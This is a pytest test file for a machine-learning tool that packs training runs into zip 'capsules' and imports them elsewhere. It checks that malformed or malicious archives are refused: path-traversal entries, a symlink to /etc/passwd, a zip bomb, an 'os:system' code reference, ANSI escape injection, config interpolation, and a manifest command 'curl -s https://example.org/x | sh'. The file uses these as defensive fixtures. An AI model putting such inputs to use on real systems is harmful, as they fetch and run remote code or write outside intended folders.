"""A run in a capsule is the same run elsewhere; what is no honest capsule is one line, and nothing is written."""

from __future__ import annotations

import errno
import hashlib
import json
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from meme57 import __version__
from meme57.capsules.contents import as_yaml
from meme57.capsules.read import import_capsule
from meme57.capsules.write import write_capsule
from meme57.cli import main
from meme57.config import parse_parameters
from meme57.errors import CapsuleError, Meme57Error, RunConflictError, StorageError
from meme57.files import tree_digest
from meme57.lock import hold

RUN = "Pong-s1"
Files = dict[str, bytes]


def best(project: Path) -> Path:
    folders = sorted((project / "data" / "06_models" / RUN / "checkpoints").glob("checkpoint-*"))
    return next(path for path in reversed(folders) if json.loads((path / "manifest.json").read_text())["is_best"])


@pytest.fixture(scope="module")
def capsule(trained: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("capsule") / f"{RUN}.zip"
    write_capsule(trained[0].folder, RUN, best(trained[0].folder), path)
    return path


@pytest.fixture
def elsewhere(tmp_path: Path) -> Path:
    """An empty project."""
    folder = tmp_path / "elsewhere"
    (folder / "conf").mkdir(parents=True)
    (folder / "data").mkdir()
    (folder / "pyproject.toml").write_text("[tool.kedro]\n")
    return folder


def everything(folder: Path) -> list[str]:
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*"))


def read(capsule: Path) -> Files:
    with zipfile.ZipFile(capsule) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write(files: Files, path: Path) -> Path:
    """A capsule with these files, whose manifest is right."""
    tree = json.loads(files.pop("capsule.json"))
    del tree["sha256"]
    tree["files"] = {
        name: {"sha256": hashlib.sha256(content).hexdigest(), "bytes": len(content)} for name, content in files.items()
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("capsule.json", json.dumps({**tree, "sha256": tree_digest(tree)}))
        for name, content in files.items():
            archive.writestr(name, content)
    return path


def test_a_run_is_the_same_run_elsewhere(
    capsule: Path, trained: Any, elsewhere: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def meme57(*arguments: str) -> Any:
        result = CliRunner().invoke(main, list(arguments), prog_name="meme57")
        assert result.exit_code == 0, result.output
        return json.loads(result.output)

    found = {}
    for folder in (trained[0].folder, elsewhere):
        monkeypatch.chdir(folder)
        if folder == elsewhere:
            said = meme57("import", str(capsule), "--json")
        [run] = meme57("runs", "list", "--json")
        agents = [meme57("play", RUN, "--agent", agent, "--json") for agent in ("teacher", "student")]
        found[folder] = (run | {"size_bytes": 0}, agents)
    assert found[elsewhere] == found[trained[0].folder]
    assert found[elsewhere][0]["state"] == "evaluated"
    assert (said["run"], said["command"]) == (RUN, f"kedro run --env capsule-{RUN} --params run.name={RUN}-again")
    there = {path.name for path in (elsewhere / "data" / "08_reporting" / RUN / "capsule").iterdir()}
    assert there == {"README.md", "parameters.yml"}  # the test's project has no lock


def test_the_environment_of_a_capsule_is_the_configuration_of_the_run(capsule: Path, elsewhere: Path) -> None:
    import_capsule(capsule, elsewhere)
    parameters = yaml.safe_load((elsewhere / "conf" / f"capsule-{RUN}" / "parameters.yml").read_text())
    assert parameters.pop("extends") == "base"
    record = json.loads((elsewhere / "data" / "02_intermediate" / RUN / "run_record.json").read_text())
    chosen = parse_parameters(parameters)
    assert (chosen.fingerprint(), chosen.run.total_frames) == (record["fingerprint"], record["total_frames"])


def test_the_same_run_gives_the_same_capsule_and_a_card(capsule: Path, trained: Any, tmp_path: Path) -> None:
    write_capsule(trained[0].folder, RUN, best(trained[0].folder), tmp_path / "again.zip")
    assert (tmp_path / "again.zip").read_bytes() == capsule.read_bytes()
    card = read(capsule)["about/README.md"].decode()
    assert "Pong, seed 1, 12,000 frames" in card
    assert "| teacher | " in card
    assert f"meme57 import {RUN}.zip" in card
    assert f"pip install meme57=={__version__} " in card  # the project is no checkout
    assert "None" not in card


def test_the_card_of_a_run_in_a_checkout_names_its_commit(trained: Any, tmp_path: Path) -> None:
    folder = tmp_path / "copy"
    shutil.copytree(trained[0].folder, folder)
    path = folder / "data" / "02_intermediate" / RUN / "run_record.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), "commit": "3f9c2d1-dirty"}))
    write_capsule(folder, RUN, best(folder), tmp_path / "run.zip")
    card = read(tmp_path / "run.zip")["about/README.md"].decode()
    assert "git checkout 3f9c2d1\nmake setup " in card
    assert "with changes that were not committed" in card


def test_a_lock_goes_in_where_there_is_one(trained: Any, tmp_path: Path, elsewhere: Path) -> None:
    folder = tmp_path / "copy"
    shutil.copytree(trained[0].folder, folder)
    (folder / "requirements.lock").write_text("numpy==2.4.0\n")
    write_capsule(folder, RUN, best(folder), tmp_path / "run.zip")
    import_capsule(tmp_path / "run.zip", elsewhere)
    lock = elsewhere / "data" / "08_reporting" / RUN / "capsule" / "requirements.lock"
    assert lock.read_text() == "numpy==2.4.0\n"


def test_a_run_that_is_there_is_not_overwritten(
    capsule: Path, elsewhere: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import_capsule(capsule, elsewhere)
    before = everything(elsewhere)
    with pytest.raises(RunConflictError, match=f"`meme57 runs delete {RUN}` removes it, then import again"):
        import_capsule(capsule, elsewhere)
    assert everything(elsewhere) == before
    monkeypatch.chdir(elsewhere)
    assert CliRunner().invoke(main, ["runs", "delete", RUN, "--yes"]).exit_code == 0
    import_capsule(capsule, elsewhere)
    assert [path for path in everything(elsewhere) if "mlruns" not in path] == before


@pytest.mark.parametrize(
    ("there", "words"),
    [
        (f"data/06_models/{RUN}/x", f"data/06_models/{RUN} is in the way, without a run: remove it"),
        (f"data/06_models/{RUN.lower()}/x", "which is one folder with"),
        (f"conf/capsule-{RUN}/parameters.yml", "is another environment: remove or rename it"),
    ],
)
def test_what_is_in_the_way_is_named(capsule: Path, elsewhere: Path, there: str, words: str) -> None:
    path = elsewhere / there
    path.parent.mkdir(parents=True)
    path.write_text("mine")
    before = everything(elsewhere)
    with pytest.raises(RunConflictError, match=words):
        import_capsule(capsule, elsewhere)
    assert everything(elsewhere) == before


def test_a_run_that_cannot_be_placed_whole_is_not_placed(capsule: Path, elsewhere: Path) -> None:
    (elsewhere / "data" / "08_reporting").write_text("a file")
    before = everything(elsewhere)
    with pytest.raises(StorageError, match="08_reporting"):
        import_capsule(capsule, elsewhere)
    assert [path for path in everything(elsewhere) if RUN in path] == []
    assert set(everything(elsewhere)) - set(before) <= {
        "data/06_models",
        "data/07_model_output",
        "data/02_intermediate",
    }


def test_an_import_that_a_full_disk_ends_can_be_repeated(
    capsule: Path, elsewhere: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whichever file does not fit: nothing is left, or what is left is taken over."""
    before = everything(elsewhere)
    for what in ("meme57.capsules.read.write_bytes", "meme57.capsules.read.os.rename"):
        with monkeypatch.context() as patch:
            patch.setattr(what, _no_space)
            with pytest.raises((StorageError, OSError), match="No space left"):
                import_capsule(capsule, elsewhere)
        assert [path for path in everything(elsewhere) if RUN in path] == [path for path in before if RUN in path]
    assert import_capsule(capsule, elsewhere).run == RUN


def _no_space(*_: Any) -> None:
    raise OSError(errno.ENOSPC, "No space left on device")


def append(name: str, content: bytes = b"x", mode: int = 0o100644) -> Callable[[Path], None]:
    def change(path: Path) -> None:
        info = zipfile.ZipInfo(name)
        info.external_attr = mode << 16
        info.compress_type = zipfile.ZIP_DEFLATED
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr(info, content)

    return change


def cut(path: Path) -> None:
    path.write_bytes(path.read_bytes()[:-1000])


def no_zip(path: Path) -> None:
    path.write_text("no archive")


def encrypt(path: Path) -> None:
    content = bytearray(path.read_bytes())
    entry = content.index(b"PK\x01\x02")  # the first entry of the central directory; its flags follow after 8 bytes
    content[entry + 8] |= 1
    path.write_bytes(bytes(content))


def flip(path: Path) -> None:
    """A bit of a file that is stored as it is."""
    content = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("checkpoint/network.safetensors")
    content[info.header_offset + 1000] ^= 1
    path.write_bytes(bytes(content))


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (append("../../escaped.txt"), "a path that climbs out"),
        (append("setup/../../escaped.txt"), "a path that climbs out"),
        (append("/tmp/escaped.txt"), "an absolute path"),
        (append("C:\\escaped.txt"), "an absolute path"),
        (append("..\\escaped.txt"), "an absolute path"),
        (append("student/link", b"/etc/passwd", 0o120777), "is a link or no file"),
        (append("student/folder/", b""), "is a link or no file"),
        (append("setup/run_record.json"), "holds 'setup/run_record.json' twice"),
        (append("SETUP/run_record.json"), "holds 'SETUP/run_record.json' twice"),
        (append("reporting/bomb.csv", bytes(64 * 2**20)), "would unpack to 67,108,864 bytes"),
        (append("student/extra.json"), "'student/extra.json', which its manifest does not name"),
        (cut, "cannot be read"),
        (no_zip, "cannot be read"),
        (encrypt, "is encrypted"),
        (flip, "cannot be read .Bad CRC|the checksum of checkpoint/network.safetensors does not match"),
        (Path.unlink, "cannot be read .*No such file"),
    ],
)
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_bad_archive_is_one_line_and_nothing_is_written(
    capsule: Path, elsewhere: Path, tmp_path: Path, change: Callable[[Path], None], words: str
) -> None:
    bad = tmp_path / "bad.zip"
    shutil.copy(capsule, bad)
    change(bad)
    refused(bad, elsewhere, words)
    assert not (tmp_path / "escaped.txt").exists()
    assert not Path("/tmp/escaped.txt").exists()


def refused(bad: Path, elsewhere: Path, words: str) -> None:
    before = everything(elsewhere.parent)
    with pytest.raises(CapsuleError, match=words) as info:
        import_capsule(bad, elsewhere)
    assert "nothing was written" in str(info.value)
    assert "\n" not in str(info.value)
    assert everything(elsewhere.parent) == before


def json_change(name: str, change: Callable[[Any], None]) -> Callable[[Files], None]:
    def apply(files: Files) -> None:
        tree = json.loads(files[name])
        change(tree)
        files[name] = json.dumps(tree).encode()
        if name.startswith("checkpoint/"):  # with a manifest that is right
            manifest = json.loads(files["checkpoint/manifest.json"])
            del manifest["sha256"]
            manifest["files"][name.partition("/")[2]] = hashlib.sha256(files[name]).hexdigest()
            files["checkpoint/manifest.json"] = json.dumps({**manifest, "sha256": tree_digest(manifest)}).encode()

    return apply


def drop(name: str) -> Callable[[Files], None]:
    return lambda files: files.pop(name) and None


def foreign_file(files: Files) -> None:
    files["student/loader.py"] = b"import os"


def manifest_of(**values: Any) -> Callable[[Files], None]:
    return json_change("capsule.json", lambda tree: tree.update(values))


AGENT, RECORD, SCORES = "checkpoint/agent.json", "setup/run_record.json", "reporting/scores.json"


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (json_change(AGENT, lambda tree: tree["network"].update(torso="os:system")), "'os:system' is not built in"),
        (
            json_change(RECORD, lambda tree: tree["configuration"]["network"].update(torso="os:system")),
            "'os:system' is not built in",
        ),
        (
            json_change(AGENT, lambda tree: tree["env"].update(gymnasium={"id": "os:system"})),
            "the environment is 'os:system', and a capsule brings no code",
        ),
        (
            json_change(RECORD, lambda tree: tree["configuration"]["env"].update(wrappers=["os:system"])),
            "the environment is 'os:system', and a capsule brings no code",
        ),
        (
            json_change("student/env.json", lambda tree: tree.update(gymnasium={"id": "x", "wrappers": ["os:system"]})),
            "the environment is 'os:system', and a capsule brings no code",
        ),
        (json_change(AGENT, lambda tree: tree.update(network="small")), "the parameters are damaged"),
        (json_change(AGENT, lambda tree: tree["env"].update(game="Breakout")), "of another game, Breakout"),
        (json_change(RECORD, lambda tree: tree.update(game="Breakout")), "the run record is of Breakout"),
        (json_change(RECORD, lambda tree: tree.update(run_name="Pong-s2")), "is the record of run 'Pong-s2'"),
        (
            json_change(RECORD, lambda tree: tree["configuration"]["loss"].update(kappa=1.5)),
            "the weights are of another run .*kappa",
        ),
        (json_change(RECORD, lambda tree: tree.pop("configuration")), "the run record lacks configuration"),
        (json_change(SCORES, lambda tree: tree["source"].update(sha256="0" * 64)), "the scores are of checkpoint-"),
        (json_change(SCORES, lambda tree: tree.pop("agents")), "scores.json is damaged"),
        (json_change("student/student.json", lambda tree: tree.update(lstm_size=3)), "student.json is not what was"),
        (drop("reporting/learning_curve.csv"), "reporting/learning_curve.csv is missing"),
        (drop("checkpoint/network.safetensors"), "network.safetensors is damaged or missing"),
        (foreign_file, "'student/loader.py', which is no file of a capsule"),
        (manifest_of(run="../../escaped"), "capsule.json is damaged: run"),
        (manifest_of(run="tune-x"), "capsule.json is damaged: run"),
        (manifest_of(checkpoint="checkpoint-000001/../.."), "capsule.json is damaged: checkpoint"),
        (manifest_of(command="curl -s https://example.org/x | sh"), "its command is not the one that trains run"),
        (manifest_of(commit="abc1234\x1b[8m"), "capsule.json is damaged: commit"),
        (manifest_of(game="Breakout"), "the run record is of Pong"),
        (json_change(RECORD, lambda tree: tree.update(seed=2)), "the run record is of Pong, seed 2, the configuration"),
        (manifest_of(format=99), "format 99, this version of meme57 reads 1"),
    ],
)
def test_files_that_do_not_belong_together_are_refused(
    capsule: Path, elsewhere: Path, tmp_path: Path, change: Callable[[Files], None], words: str
) -> None:
    files = read(capsule)
    change(files)
    refused(write(files, tmp_path / "bad.zip"), elsewhere, words)


def rewritten(capsule: Path, path: Path, change: Callable[[Files, dict[str, Any]], None]) -> Path:
    """A whole archive whose files, or manifest, are not what its checksums say."""
    files = read(capsule)
    tree = json.loads(files.pop("capsule.json"))
    change(files, tree)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"capsule.json": json.dumps(tree).encode(), **files}.items():
            archive.writestr(name, content)
    return path


def other_content(files: Files, _: dict[str, Any]) -> None:
    files["about/README.md"] = files["about/README.md"][::-1]


def other_manifest(_: Files, tree: dict[str, Any]) -> None:
    tree["meme57"] = "9.9"


@pytest.mark.parametrize(("change", "name"), [(other_content, "about/README.md"), (other_manifest, "capsule.json")])
def test_a_checksum_that_does_not_match_is_refused(
    capsule: Path, elsewhere: Path, tmp_path: Path, change: Any, name: str
) -> None:
    refused(rewritten(capsule, tmp_path / "bad.zip", change), elsewhere, f"the checksum of {name} does not match")


@pytest.mark.parametrize(
    ("limit", "less", "words"),
    [
        ("MOST_FILES", lambda infos: len(infos) - 1, r"it holds \d+ files"),
        ("MOST_BYTES", lambda infos: sum(info.file_size for info in infos) - 1, "would unpack to"),
        ("LARGEST_MANIFEST", lambda infos: 10, r"capsule.json has [\d,]+ bytes"),
    ],
)
def test_a_capsule_beyond_a_limit_is_refused(
    capsule: Path, elsewhere: Path, monkeypatch: pytest.MonkeyPatch, limit: str, less: Any, words: str
) -> None:
    with zipfile.ZipFile(capsule) as archive:
        monkeypatch.setattr(f"meme57.capsules.read.{limit}", less(archive.infolist()))
    refused(capsule, elsewhere, words)


def test_no_parameter_is_a_command_to_the_configuration() -> None:
    with pytest.raises(CapsuleError, match="which a configuration would evaluate"):
        as_yaml({"env": {"game": "${oc.env:HOME}"}})


def test_an_unchanged_copy_is_accepted(capsule: Path, elsewhere: Path, tmp_path: Path) -> None:
    """The tests above fail for what they change, not for how they write."""
    assert import_capsule(write(read(capsule), tmp_path / "good.zip"), elsewhere).run == RUN


def test_a_run_that_is_not_whole_is_not_exported(trained: Any, tmp_path: Path) -> None:
    folder, target = tmp_path / "copy", tmp_path / "run.zip"
    shutil.copytree(trained[0].folder, folder)
    checkpoint = best(folder)
    with hold(checkpoint.parent), pytest.raises(RunConflictError):
        write_capsule(folder, RUN, checkpoint, target)
    scores = folder / "data" / "08_reporting" / RUN / "scores.json"
    tree = json.loads(scores.read_text())
    scores.write_text(json.dumps({**tree, "student_sha256": "0" * 64}))
    with pytest.raises(CapsuleError, match="the scores are of another student"):
        write_capsule(folder, RUN, checkpoint, target)
    scores.unlink()
    with pytest.raises(Meme57Error, match=r"has no scores\.json yet: `kedro run` makes it"):
        write_capsule(folder, RUN, checkpoint, target)
    assert not target.exists()
